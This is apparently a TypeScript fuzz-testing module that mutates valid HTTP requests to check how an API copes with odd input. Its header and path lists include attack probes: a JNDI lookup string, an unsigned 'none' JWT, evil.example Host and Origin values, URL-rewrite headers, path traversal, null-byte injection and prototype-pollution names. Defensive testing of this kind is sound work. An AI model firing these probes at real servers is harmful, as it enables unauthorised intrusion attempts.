import type { Seeded } from '../kit/seeded.ts'
import type { Draft } from './draft.ts'
import { bodyMutations } from './mutations-body.ts'
import { rawMutations } from './mutations-raw.ts'
import { CANARY_NIK, oddNames, oddTexts } from './values.ts'

/** One thing that is done to a good request. */
export type Mutation = (draft: Draft, random: Seeded) => void

const setHeader = (draft: Draft, name: string, value: string): void => {
  draft.headers = [...draft.headers.filter(([known]) => known.toLowerCase() !== name.toLowerCase()), [name, value]]
}

/** Values that headers are given, and what must come of them all the same. */
const oddHeaders: readonly [name: string, value: string][] = [
  ['If-None-Match', '*'],
  ['If-None-Match', 'W/"'],
  ['If-None-Match', '"a", "b", ,'],
  ['If-Match', '"x"'],
  ['If-Modified-Since', 'yesterday'],
  ['Range', 'bytes=0-1'],
  ['Range', 'bytes=9-1,,-'],
  ['Cache-Control', 'no-cache'],
  ['Cache-Control', 'max-age=0, stale-if-error=99999999999, ,=='],
  ['Cache-Control', 'min-fresh=-1, only-if-cached, max-stale'],
  ['Pragma', 'no-cache'],
  ['X-Request-Id', '\u00e9'],
  ['X-Request-Id', ''],
  ['X-Request-Id', 'x'.repeat(65)],
  ['X-Request-Id', CANARY_NIK],
  ['X-Purpose', 'planning'],
  ['X-Purpose', 'curiosity'],
  ['X-Purpose', ''],
  ['X-Purpose', 'PUBLIC_SERVICE'],
  ['Idempotency-Key', 'bare'],
  ['Idempotency-Key', '""'],
  ['Idempotency-Key', '"\u00e9"'],
  ['Idempotency-Key', `"${'x'.repeat(300)}"`],
  ['Idempotency-Key', '"a\\b"'],
  ['Authorization', 'Bearer'],
  ['Authorization', 'Bearer a.b.c'],
  ['Authorization', 'Basic YTpi'],
  ['Authorization', `Bearer ${'a'.repeat(9_000)}.b.c`],
  ['Authorization', 'Bearer eyJhbGciOiJub25lIn0.e30.'],
  ['Authorization', ''],
  ['X-API-Key', 'satu_00000000_x'],
  ['X-API-Key', ''],
  ['Cookie', 'session=1'],
  ['Accept', 'text/html'],
  ['Accept', '*/*;q=0'],
  ['Accept', ',;='],
  ['Accept', 'x'.repeat(2_000)],
  ['Accept-Encoding', 'gzip;q=0, *;q=0'],
  ['Accept-Language', 'x'],
  ['Accept-Charset', 'utf-16'],
  ['Expect', '100-continue'],
  ['Expect', 'nothing'],
  ['Upgrade', 'h2c'],
  ['Upgrade', 'websocket'],
  ['Connection', 'upgrade'],
  ['Connection', 'keep-alive, authorization'],
  ['TE', 'trailers'],
  ['Trailer', 'Authorization'],
  ['Max-Forwards', '0'],
  ['X-HTTP-Method-Override', 'DELETE'],
  ['X-Original-URL', '/metrics'],
  ['X-Rewrite-URL', '/metrics'],
  ['X-Forwarded-For', '127.0.0.1, ::1, x'],
  ['X-Forwarded-Host', 'evil.example'],
  ['X-Forwarded-Proto', 'gopher'],
  ['Forwarded', 'for=x;=;;'],
  ['Origin', 'null'],
  ['Origin', 'https://evil.example'],
  ['Referer', `http://x/${CANARY_NIK}`],
  ['User-Agent', '${jndi:ldap://x/a}'],
  ['User-Agent', ''],
  ['traceparent', '00-00000000000000000000000000000000-0000000000000000-00'],
  ['traceparent', 'x'],
  ['tracestate', ',,,'],
  ['Last-Event-ID', '-1'],
  ['Last-Event-ID', '999999999999999'],
  ['Prefer', 'return=minimal'],
  ['Content-Encoding', 'gzip'],
  ['Content-Language', 'x'],
  ['Host', ''],
  ['Host', 'evil.example:99999'],
  ['Host', '[::1'],
  ['Date', 'now'],
  ['Access-Control-Request-Method', 'X'],
  ['__proto__', 'x'],
  ['constructor', 'x'],
  ['X-Long', 'x'.repeat(20_000)],
  ['X-Bytes', '\u0080\u00ff\u00fe']
]

const methods = ['HEAD', 'OPTIONS', 'TRACE', 'PATCH', 'PUT', 'DELETE', 'POST', 'GET', 'CONNECT', 'PROPFIND', 'QUERY',
  'SEARCH', 'get', 'G', 'GETS', 'M-SEARCH', 'PURGE', 'LINK']

const requestMutations: Readonly<Record<string, Mutation>> = {
  'a parameter has an odd value': (draft, random) => {
    const at = random.int(0, draft.query.length)
    draft.query[at] = [draft.query[at]?.[0] ?? random.pick(oddNames), random.pick(oddTexts)]
  },
  'another parameter': (draft, random) => {
    draft.query.push([random.pick(oddNames), random.pick(oddTexts)])
  },
  'a parameter twice': (draft, random) => {
    const found = draft.query.length === 0 ? ['limit', '5'] as [string, string] : random.pick(draft.query)
    draft.query.push(random.int(0, 1) === 0 ? found : [found[0], random.pick(oddTexts)])
  },
  'many parameters': (draft, random) => {
    for (let i = random.int(50, 400); i > 0; i--) draft.query.push([`x${i}`, '1'])
  },
  'encoded twice': draft => {
    draft.path = draft.path.replaceAll('%', '%25')
    draft.query = draft.query.map(([name, value]) => [name, value.replaceAll('%', '%25').replaceAll('.', '%252e')])
  },
  'a query of nothing but marks': (draft, random) => {
    draft.query = [[random.pick(['', '&', '&&=', ';', '?', '??', '#', '=']), random.pick(['', '&', '=='])]]
  },
  'a part of the path is odd': (draft, random) => {
    const parts = draft.path.split('/')
    parts[random.int(2, Math.max(2, parts.length - 1))] = random.pick(oddTexts)
    draft.path = parts.join('/')
  },
  'the path leads elsewhere': (draft, random) => {
    const { path } = draft
    draft.path = random.pick([`${path}/`, `/${path}`, `${path}//`, `/./${path}`, `${path}/..`, `${path}/%2e%2e/${path}`,
      `${path}/..%2f`, `${path};x=1`, `${path}.json`, path.toUpperCase(), `http://hub${path}`,
      `http://evil.example${path}`, `https://hub:1${path}`, `${path}#fragment`, `\\${path}`,
      path.replaceAll('/', '%2f'), path.replace('v1', 'v2'), `/v1${path}`, '*', '/', '', '//', '/v1',
      `${path}/${'x'.repeat(1_200)}`, `/${'x/'.repeat(800)}`, `${path}%00`, `${path}%0a`, `${path}?`, '/%', 'hub',
      'hub:80'])
  },
  'another method': (draft, random) => {
    draft.method = random.pick(methods)
  },
  'a header is odd': (draft, random) => {
    setHeader(draft, ...random.pick(oddHeaders))
  },
  'a header twice': (draft, random) => {
    const found = random.pick(draft.headers)
    draft.headers.push(random.int(0, 1) === 0 ? found : random.pick(oddHeaders))
  },
  'a header is missing': (draft, random) => {
    draft.headers.splice(random.int(0, draft.headers.length - 1), 1)
  },
  'many headers': (draft, random) => {
    for (let i = random.int(60, 1_500); i > 0; i--) draft.headers.push([`X-${i}`, '1'])
  },
  'headers in other letters': draft => {
    draft.headers = draft.headers.map(([name, value]) => [name.toUpperCase(), value])
  }
}

export const mutations: Readonly<Record<string, Mutation>> = { ...requestMutations, ...bodyMutations, ...rawMutations }
